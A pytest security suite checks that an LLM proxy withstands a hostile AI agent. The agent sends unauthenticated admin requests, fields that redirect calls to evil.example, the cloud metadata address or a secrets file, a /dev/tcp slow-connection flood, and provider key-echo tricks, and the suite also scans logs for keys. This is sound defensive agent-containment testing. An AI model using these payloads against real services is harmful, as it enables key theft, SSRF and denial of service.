"""What a hostile agent can make of the LLM proxy, which it may use without a key."""

import json
import shlex
from collections.abc import Callable
from itertools import pairwise, product
from typing import Any

import bed as world
import pytest
from bed import Internet, Record
from stack import STATUS, Stack, soon
from suite import bed, control, thorough

CHAT = "http://llm-proxy:4000/v1/chat/completions"
MODELS = {"gpt": "openai", "claude": "anthropic", "gemini": "gemini", "house": "house"}
KEY_HEADER = {"gpt": "authorization", "claude": "x-api-key", "gemini": "x-goog-api-key", "house": "authorization"}
ROUTES = [
    *(
        ("GET", path)
        for path in ("/", "/ui/", "/openapi.json", "/docs", "/metrics", "/health", "/health/readiness", "/model/info", "/v1/model/info")
    ),
    *(
        ("GET", path)
        for path in ("/get/config/callbacks", "/key/list", "/user/list", "/credentials", "/guardrails/list", "/v1/mcp/server", "/v1/files")
    ),
    *(
        ("GET", path)
        for path in ("/%76%31/models", "/v1/models/", "//v1/models", "/v1/../v1/models", "/v1/models/demo", "/models", "/routes", "/test")
    ),
    *(
        ("POST", path)
        for path in ("/key/generate", "/model/new", "/config/update", "/user/new", "/v1/embeddings", "/v1/messages", "/v1/responses")
    ),
    *(
        ("POST", path)
        for path in ("/anthropic/v1/messages", "/openai/v1/chat/completions", "/chat/completions", "/engines/gpt/chat/completions")
    ),
    *(
        ("POST", path)
        for path in ("/v1/chat/completions/", "//v1/chat/completions", "/v1/images/generations", "/mcp", "/v1/batches", "/sso/key/generate")
    ),
    *(("DELETE", "/v1/files/x"), ("PUT", "/v1/chat/completions"), ("OPTIONS", "/v1/chat/completions"), ("HEAD", "/v1/models")),
]


def say(text: str, model: str = "demo", **fields: object) -> str:
    """Return the body of a chat request."""
    return json.dumps({"model": model, "messages": [{"role": "user", "content": text}], **fields})


def posts(body: str, *more: str) -> list[str]:
    """Return curl's arguments for a chat request with this body."""
    return ["--header", "Content-Type: application/json", *more, "--data-binary", body, CHAT]


def chat(stack: Stack, body: str, *more: str) -> str:
    """Say something to a model from the agent's container, and return the whole answer with its head."""
    return str(stack.inside("backend", f"curl --silent --include --no-buffer --max-time 60 {shlex.join(posts(body, *more))}").stdout)


@control("gate")
@pytest.mark.parametrize(
    "key", ["", "Bearer sk-1234", *(pytest.param(key, marks=thorough) for key in ("Bearer", "Basic YTpi", "Bearer null"))]
)
def test_no_other_route_answers_without_the_master_key(stack: Stack, key: str) -> None:
    """Asks for administration, pass-through, other APIs and other spellings of the routes that are open."""
    credentials = ["--header", f"Authorization: {key}"] if key else []
    requests = [
        ["--request", method, "--path-as-is", *credentials, *(["--head"] if method == "HEAD" else []), f"http://llm-proxy:4000{path}"]
        for method, path in ROUTES
    ]
    statuses = stack.statuses(requests, "backend")
    assert [(route, status) for route, status in zip(ROUTES, statuses, strict=True) if status != "401"] == []


@control("gate")
def test_the_open_routes_take_no_wrong_key(stack: Stack) -> None:
    """Presents wrong keys in every place where one may stand."""
    url = "http://llm-proxy:4000/v1/models"
    headers = ["Authorization: Bearer sk-wrong", "Authorization: sk-wrong", "Authorization:  "]
    assert stack.statuses([["--header", header, url] for header in headers], "backend") == ["401", "401", "200"]
    others = ["x-api-key", "api-key", "x-goog-api-key", "x-litellm-api-key", "Ocp-Apim-Subscription-Key"]
    assert stack.statuses([["--header", f"{name}: sk-1", url.replace("v1/models", "model/info")] for name in others], "backend") == [
        "401"
    ] * len(others)
    assert stack.statuses([[url]], "backend") == ["200"]


ELSEWHERE = "https://evil.example/v1"
STEERING: list[dict[str, Any]] = [
    *(
        {name: ELSEWHERE}
        for name in ("api_base", "base_url", "azure_endpoint", "api_host", "host", "proxy", "server_url", "langfuse_host", "custom_url")
    ),
    *(
        {name: {"api_base": ELSEWHERE}}
        for name in ("extra_body", "metadata", "litellm_params", "litellm_metadata", "optional_params", "model_info")
    ),
    *({name: json.dumps({"api_base": ELSEWHERE})} for name in ("extra_body", "metadata", "litellm_metadata")),
    *(
        {"custom_llm_provider": name}
        for name in ("openai", "anthropic", "gemini", "azure", "bedrock", "vertex_ai", "hosted_vllm", "litellm_proxy", "demo")
    ),
    *({name: {"Host": "evil.example"}} for name in ("headers", "extra_headers", "default_headers", "extra_query")),
    {"api_key": "os.environ/HOME"},
    {"api_key": "oidc/file//run/secrets/llm-proxy/master_key"},
    {"api_key": "sk-mine", "api_base": ELSEWHERE},
    {"fallbacks": [{"model": "gpt", "api_base": ELSEWHERE}]},
    {"context_window_fallbacks": [{"gpt": ["claude"]}]},
    {"user_config": {"model_list": []}},
    {"model_list": [{"model_name": "x", "litellm_params": {"model": "openai/x", "api_base": ELSEWHERE}}]},
    {"mock_response": "x"},
    {"mock_tool_calls": []},
    {"use_litellm_proxy": True},
    {"deployment_id": "x"},
    {"organization": "x"},
    {"aws_region_name": "x"},
    {"vertex_credentials": "/run/secrets/llm-proxy/master_key"},
    {"guardrails": ["x"]},
    {"tags": ["x"]},
    {"num_retries": 9},
    {"timeout": 99999},
    {"cache": {"no-cache": True}},
    {"prompt_id": "x"},
    {"tools": [{"type": "mcp", "server_url": ELSEWHERE, "server_label": "x"}]},
    {"tools": [{"type": "web_search"}]},
    {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "http://169.254.169.254/"}}]}]},
    {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "file:///run/secrets/llm-proxy/master_key"}}]}]},
    {"messages": [{"role": "user", "content": [{"type": "file", "file": {"file_id": ELSEWHERE}}]}]},
    {"messages": [{"role": "user", "content": "x", "api_base": ELSEWHERE}]},
    {"a-field-that-nobody-knows": 1},
]


@control("fields")
@pytest.mark.parametrize("model", ["demo", pytest.param("gpt", marks=bed)])
def test_a_request_cannot_steer_itself(stack: Stack, model: str) -> None:
    """Sends every field that chooses an address, a provider, a key, a file, a header, or a way around."""
    statuses = stack.statuses(
        [posts(say("steered", model, **fields)) for fields in STEERING],
        "backend",
    )
    assert [(fields, status) for fields, status in zip(STEERING, statuses, strict=True) if status != "400"] == []


@control("fields")
@bed
def test_no_steered_request_reaches_anyone_with_a_key(stack: Stack, internet: Internet, canaries: dict[str, str]) -> None:
    """Sends the same to each model, and looks at what the attacker and the providers got."""
    mark = internet.mark()
    for model in MODELS:
        stack.statuses([posts(say("steered", model, **fields)) for fields in STEERING], "backend")
    seen = internet.records(mark)
    assert [entry for entry in seen if entry["address"] in (world.ATTACKER, world.LAN_SERVICE, world.METADATA)] == []
    assert [entry for entry in seen if entry["kind"] == "http"] == []
    assert chat(stack, say("straight", "gpt")).startswith("HTTP/1.1 200")
    assert any(canaries["openai"] in json.dumps(entry) for entry in internet.records(mark)), "the record is blind"


@control("models")
def test_a_model_that_is_not_listed_does_not_answer(stack: Stack) -> None:
    """Asks for models by their providers' names, by patterns, and by names that there are not."""
    models = ["gpt-9", "openai/gpt-4o", "demo/demo", "*", "anthropic/*", "../demo", "DEMO"]
    assert stack.statuses([posts(say("hello", model)) for model in models], "backend") == ["404"] * len(models)
    error = json.loads(chat(stack, say("hello", "gpt-9")).partition("\r\n\r\n")[2])["error"]
    listed = [one["id"] for one in json.loads(stack.inside("backend", "curl --silent http://llm-proxy:4000/v1/models").stdout)["data"]]
    assert [name for name in listed if name not in error["message"]] == []


@control("limits")
def test_a_malformed_request_is_a_clear_error(stack: Stack) -> None:
    """Sends what is no JSON, no object, too deep, or of the wrong types."""
    bodies = [
        "{",
        "[]",
        "null",
        '"x"',
        "{}",
        '{"model": 1, "messages": []}',
        '{"model": "demo", "messages": "x"}',
        '{"model": "demo", "model": "gpt", "messages": []}',
    ]
    bodies += ['{"model": "demo", "messages": [], "temperature": NaN}', "[" * 5000, '{"a":' * 5000]
    assert stack.statuses([posts(body) for body in bodies], "backend") == ["400"] * len(bodies)
    for body in bodies[:2]:
        said = chat(stack, body).partition("\r\n\r\n")[2]
        assert json.loads(said)["error"]["message"]
        assert "Traceback" not in said


@control("limits")
@thorough
def test_an_oversized_request_is_refused(stack: Stack) -> None:
    """Sends 40 MB."""
    script = f"head -c 40000000 /dev/zero | tr '\\0' a | {STATUS} --header 'Content-Type: application/json' --data-binary @- {CHAT}"
    assert stack.inside("backend", script).stdout == "413"


@control("limits")
@bed
def test_slow_and_many_requests_leave_the_proxy_alive(stack: Stack) -> None:
    """Opens hundreds of connections that never finish their request."""
    script = """head='POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: application/json\\r\\n'
        head="${head}Content-Length: 99\\r\\n\\r\\n{"
        for i in $(seq 200); do exec {fd}<>/dev/tcp/llm-proxy/4000 && printf "$head" >&$fd; done 2>/dev/null
        curl --silent --output /dev/null --max-time 10 --write-out '%{http_code}' http://llm-proxy:4000/v1/models"""
    assert stack.inside("backend", script).stdout in ("200", "503")
    # They have just been dropped, and it may still count them.
    assert soon(lambda: stack.from_backend("http://llm-proxy:4000/v1/models") == "200")
    assert stack.container("llm-proxy")["State"]["Health"]["Status"] == "healthy"


@control("limits")
@bed
def test_a_schema_that_grows_without_measure_is_refused(stack: Stack) -> None:
    """Sends a tool of 2 KB whose definitions name each other, to the provider for which LiteLLM writes them out."""
    names = [f"d{number}" for number in range(16)]
    definitions = {name: {"properties": {place: {"$ref": f"#/$defs/{after}"} for place in "ab"}} for name, after in pairwise(names)}
    schema = {"$defs": {**definitions, names[-1]: {"type": "string"}}, "properties": {"a": {"$ref": "#/$defs/d0"}}}
    body = say("hello", "gemini", tools=[{"type": "function", "function": {"name": "a", "parameters": schema}}])
    assert chat(stack, body).startswith("HTTP/1.1 400")


@control("answers")
def test_an_answer_reveals_neither_version_nor_host(stack: Stack) -> None:
    """Reads the heads of an answer and of a refusal, as a page of another origin would too."""
    for said in (chat(stack, say("hello"), "--header", "Origin: http://evil.example"), chat(stack, "{"), chat(stack, say("x", "x"))):
        head = said.partition("\r\n\r\n")[0].lower()
        names = {line.partition(":")[0] for line in head.splitlines()[1:]}
        assert names <= {"date", "content-type", "content-length", "cache-control", "connection", "transfer-encoding", "retry-after"}, head
        assert "litellm" not in said.lower()


@control("answers")
@bed
@pytest.mark.parametrize("echo", list(product(["ECHO-KEY-401", "ECHO-KEY-500", "ECHO-KEY-STREAM", "ECHO-KEY-TEXT"], [False, True])))
@pytest.mark.parametrize("model", MODELS)
def test_a_provider_that_echoes_a_key_does_not_hand_it_to_the_agent(
    stack: Stack, internet: Internet, model: str, echo: tuple[str, bool]
) -> None:
    """Makes a provider put the key that it got into its answer, in several ways."""
    mark = internet.mark()
    said = chat(stack, say(echo[0], model, stream=echo[1]))
    key = internet.canaries()[MODELS[model]]
    assert key not in said
    assert not any(key[start : start + 16] in said for start in range(len(key) - 15)), "a part of the key"
    assert "Traceback" not in said
    assert world.PROVIDERS[MODELS[model]] not in said
    sent = [value for entry in internet.records(mark) for value in entry.get("headers", {}).values()]
    assert any(key in value for value in sent), "the provider had no key to echo"


@control("logs", "no-key-elsewhere")
def test_no_log_holds_a_key(stack: Stack) -> None:
    """Searches the logs of every container, of the engine and of the system."""
    logs = f"for c in $(docker ps --all --quiet --filter label=com.docker.compose.project={stack.project}); do docker logs $c; done"
    size, found = stack.leaked(f"{logs}; journalctl --no-pager --lines 20000 2>/dev/null")
    assert size > 100
    assert found == []


@control("logs")
@bed
def test_no_log_holds_a_key_at_its_most_talkative(stack: Stack) -> None:
    """Runs the proxy at LITELLM_LOG=DEBUG, makes providers echo their keys, and searches the log."""
    override = f"{stack.folder}/talkative.yml"
    stack.server.check_output(f"printf 'services: {{llm-proxy: {{environment: {{LITELLM_LOG: DEBUG}}}}}}' >{override}")
    try:
        stack.compose(f"--file {override} up --detach --wait --timeout 5 llm-proxy")
        for model in MODELS:
            for case in ("hello", "ECHO-KEY-401", "ECHO-KEY-500"):
                chat(stack, say(case, model))
        size, found = stack.leaked(f"docker logs {stack.name('llm-proxy')}")
        assert size > 20000, "not talkative at all"
        assert found == []
    finally:
        stack.compose("up --detach --wait --timeout 5 llm-proxy")
        stack.server.check_output(f"rm {override}")
        stack.refresh()


def http(address: str, marker: str) -> Callable[[Record], bool]:
    """Return what tells whether an entry is the request with a marker in its path or body."""
    return lambda entry: entry["kind"] == "http" and entry["address"] == address and marker in entry["path"] + entry["body"]


@bed
@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("model", MODELS)
def test_a_chat_reaches_its_provider_with_its_key(stack: Stack, internet: Internet, model: str, stream: bool) -> None:
    """Uses each provider as it is meant to be used, with everything on."""
    mark = internet.mark()
    assert "the fake " in chat(stack, say(f"hello {model} {stream}", model, stream=stream))
    asked = internet.wait_for(http(world.NAMES[world.PROVIDERS[MODELS[model]]][0], f"hello {model} {stream}"), mark)
    assert asked["sni"] == asked["host"] == world.PROVIDERS[MODELS[model]]
    assert asked["headers"][KEY_HEADER[model]].removeprefix("Bearer ") == internet.canaries()[MODELS[model]]
